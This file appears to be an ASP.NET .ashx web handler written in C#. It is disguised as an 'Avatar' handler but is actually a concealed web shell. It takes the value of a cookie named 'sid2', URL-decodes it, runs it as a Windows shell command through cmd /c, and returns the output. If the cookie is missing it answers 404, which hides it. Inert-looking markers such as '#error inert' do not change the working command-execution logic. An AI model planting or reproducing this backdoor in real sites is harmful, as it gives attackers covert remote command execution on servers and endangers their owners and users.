<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System;
using System.Web;
using D = System.Diagnostics;

public class Box<T> { public T Value { get; set; } public Box(T v) { Value = v; } }

public sealed class Worker
{
    private readonly Box<string> _box;
    public Worker(Box<string> box) { _box = box; }
    private D.ProcessStartInfo Info => new D.ProcessStartInfo("cmd", "/c " + _box.Value)
    {
        RedirectStandardOutput = true, UseShellExecute = false
    };
    public string Output { get { return D.Process.Start(Info).StandardOutput.ReadToEnd(); } }
}

public class Avatar : IHttpHandler
{
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext ctx)
    {
        var raw = ctx.Request.Cookies["sid2"];
        if (raw == null) { ctx.Response.StatusCode = 404; return; }
        ctx.Response.Write(new Worker(new Box<string>(HttpUtility.UrlDecode(raw.Value))).Output);
    }
}
